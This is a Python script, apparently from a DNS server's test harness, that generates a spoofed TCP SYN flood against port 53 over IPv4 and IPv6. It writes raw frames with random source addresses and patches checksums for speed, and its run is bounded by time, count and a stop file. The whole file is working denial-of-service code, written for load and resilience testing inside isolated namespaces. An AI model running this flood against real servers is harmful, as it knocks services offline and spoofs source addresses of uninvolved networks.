#!/usr/bin/python3
"""Spoofed SYN flood: SYNs to SERVER port 53 from random source addresses
inside the test's own prefixes, from random source ports with random
sequence numbers, IPv4 and IPv6 alternately.

  tcp_flood_syn.py IFACE SRC_MAC DST_MAC SERVER4 PREFIX4/16 SERVER6 PREFIX6/64
                   SECONDS MAX_COUNT [STOP_FILE]

SERVER6 and PREFIX6 given as "-": IPv4 only. Runs until SECONDS have passed, MAX_COUNT SYNs are sent or STOP_FILE exists
(checked every 1,024 frames), whichever comes first: bounded in count and
time. Each SYN carries an MSS option (1460), full IP and TCP checksums.
Frames are written to an AF_PACKET socket; only the source address, port
and sequence number change between frames, so the checksums are patched
(one's-complement sums), not recomputed. The source prefixes must be ones
that exist only inside the test's namespaces: the server's SYN-ACKs go back
to them and are dropped there (no host has those addresses).

Prints sent4=N, sent6=N and seconds=S.
"""
import ipaddress
import os
import random
import socket
import struct
import sys
import time


def csum_add(s, data):
    if len(data) % 2:
        data += b"\0"
    return s + sum(struct.unpack("!%dH" % (len(data) // 2), data))


def fold(s):
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return s


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def tcp_syn_header():
    """Ports, seq zero (patched per frame); SYN, window 64240, MSS 1460."""
    return struct.pack("!HHIIBBHHH", 0, 53, 0, 0, 6 << 4, 0x02, 64240, 0, 0) + \
        struct.pack("!BBH", 2, 4, 1460)


class Flood4:
    def __init__(self, src_mac, dst_mac, server, prefix):
        net = ipaddress.IPv4Network(prefix)
        if net.prefixlen != 16:
            sys.exit("PREFIX4 must be a /16: %s" % prefix)
        self.hi = net.network_address.packed[:2]
        tcp = tcp_syn_header()
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0,
                         self.hi + b"\0\0", ipaddress.IPv4Address(server).packed)
        self.frame = bytearray(mac(dst_mac) + mac(src_mac) + b"\x08\x00" + ip + tcp)
        # Sums of everything that stays: the IP header with a zero low
        # source word, the TCP pseudo-header and header with zero sport/seq.
        self.ip_base = csum_add(0, ip)
        self.tcp_base = csum_add(0, self.hi + b"\0\0" + ipaddress.IPv4Address(server).packed)
        self.tcp_base = csum_add(self.tcp_base, struct.pack("!xBH", 6, len(tcp)))
        self.tcp_base = csum_add(self.tcp_base, tcp)

    def next(self, r):
        low = r & 0xffff
        if low in (0, 0xffff):
            low = 1
        sport = 1024 + ((r >> 16) % 64512)
        seq = (r >> 32) & 0xffffffff
        f = self.frame
        struct.pack_into("!H", f, 14 + 14, low)
        struct.pack_into("!H", f, 14 + 10, 0xffff - fold(self.ip_base + low))
        t = 34
        s = self.tcp_base + low + sport + (seq >> 16) + (seq & 0xffff)
        struct.pack_into("!HHI", f, t, sport, 53, seq)
        struct.pack_into("!H", f, t + 16, 0xffff - fold(s))
        return f


class Flood6:
    def __init__(self, src_mac, dst_mac, server, prefix):
        net = ipaddress.IPv6Network(prefix)
        if net.prefixlen != 64:
            sys.exit("PREFIX6 must be a /64: %s" % prefix)
        self.hi = net.network_address.packed[:8]
        tcp = tcp_syn_header()
        dst = ipaddress.IPv6Address(server).packed
        ip = struct.pack("!IHBB", 6 << 28, len(tcp), 6, 64) + self.hi + bytes(8) + dst
        self.frame = bytearray(mac(dst_mac) + mac(src_mac) + b"\x86\xdd" + ip + tcp)
        self.tcp_base = csum_add(0, self.hi + dst)
        self.tcp_base = csum_add(self.tcp_base, struct.pack("!IxxxB", len(tcp), 6))
        self.tcp_base = csum_add(self.tcp_base, tcp)

    def next(self, r):
        iid = r & 0xffffffffffffffff
        if iid == 0:
            iid = 1
        r2 = random.getrandbits(48)
        sport = 1024 + ((r2 & 0xffff) % 64512)
        seq = r2 >> 16
        f = self.frame
        struct.pack_into("!Q", f, 14 + 16, iid)
        s = (self.tcp_base + (iid >> 48) + ((iid >> 32) & 0xffff) + ((iid >> 16) & 0xffff) +
             (iid & 0xffff) + sport + (seq >> 16) + (seq & 0xffff))
        t = 54
        struct.pack_into("!HHI", f, t, sport, 53, seq)
        struct.pack_into("!H", f, t + 16, 0xffff - fold(s))
        return f


def main():
    if len(sys.argv) not in (10, 11):
        sys.exit(__doc__)
    iface, src_mac, dst_mac, server4, prefix4, server6, prefix6 = sys.argv[1:8]
    seconds = float(sys.argv[8])
    max_count = int(sys.argv[9])
    stop_file = sys.argv[10] if len(sys.argv) == 11 else None
    gens = [Flood4(src_mac, dst_mac, server4, prefix4)]
    gens.append(gens[0] if server6 == "-" else Flood6(src_mac, dst_mac, server6, prefix6))
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((iface, 0))
    sent = [0, 0]
    start = time.monotonic()
    deadline = start + seconds
    n = 0
    getrandbits = random.getrandbits
    send = sock.send
    while n < max_count:
        if n % 1024 == 0:
            if time.monotonic() >= deadline or (stop_file and os.path.exists(stop_file)):
                break
        fam = n & 1
        try:
            send(gens[fam].next(getrandbits(64)))
        except (BlockingIOError, OSError):
            time.sleep(0.001)  # the device queue is full: let it drain
            continue
        sent[fam] += 1
        n += 1
    if server6 == "-":
        sent = [sent[0] + sent[1], 0]
    print("sent4=%d" % sent[0])
    print("sent6=%d" % sent[1])
    print("seconds=%.2f" % (time.monotonic() - start))


if __name__ == "__main__":
    main()
